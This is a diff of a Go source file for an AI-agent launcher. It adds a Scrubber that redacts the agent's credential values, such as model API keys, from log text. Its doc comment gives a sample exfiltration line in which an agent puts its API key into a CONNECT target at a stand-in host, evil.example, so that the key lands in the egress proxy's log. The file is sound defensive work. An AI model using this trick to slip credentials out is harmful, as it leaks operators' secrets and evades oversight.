@@ -1,12 +1,14 @@
 package agentlaunch
 
 import (
+	"fmt"
 	"slices"
 	"strings"
 
 	"github.com/rs/zerolog"
 
 	"github.com/mitrity/mitrity/govern/config"
+	"github.com/mitrity/mitrity/govern/dlp"
 )
 
 // Basics are the variables every CLI needs, passed when the launcher's
@@ -150,4 +152,35 @@ func FilterEnv(environ, declared []string, log zerolog.Logger) FilteredEnv {
 	slices.Sort(f.Stripped)
 	log.Debug().Strs("stripped", f.Stripped).Int("passed", len(f.Passed)).Msg("agent environment: stripped")
 	return f
+}
+
+// Scrubber takes out of a text the launcher logs every value the agent is
+// given beyond the basics (agent_launch.env, the allow list: a model API
+// key is the usual one), then applies known (the gateway's own credential
+// values; nil: none). The agent can spell a destination with such a value
+// (CONNECT $ANTHROPIC_API_KEY.evil.example:443), and the session's egress
+// proxy, which holds no values, logs the target as asked. Every such
+// value is taken as a credential: the launcher cannot tell which are. A
+// value shorter than dlp.MinSecretBytes cannot be told from ordinary text
+// and is left as it is.
+func (f FilteredEnv) Scrubber(known func(string) string) (func(string) string, error) {
+	var secrets []dlp.Secret
+	for _, kv := range f.Env {
+		name, val, _ := strings.Cut(kv, "=")
+		if !basic(name) && len(val) >= dlp.MinSecretBytes {
+			secrets = append(secrets, dlp.Secret{ID: name, Value: val})
+		}
+	}
+	red, err := dlp.NewRedactor(secrets)
+	if err != nil {
+		return nil, fmt.Errorf("the agent environment's redactor: %w", err)
+	}
+	return func(s string) string {
+		b, _ := red.Redact([]byte(s))
+		s = string(b)
+		if known != nil {
+			s = known(s)
+		}
+		return s
+	}, nil
 }
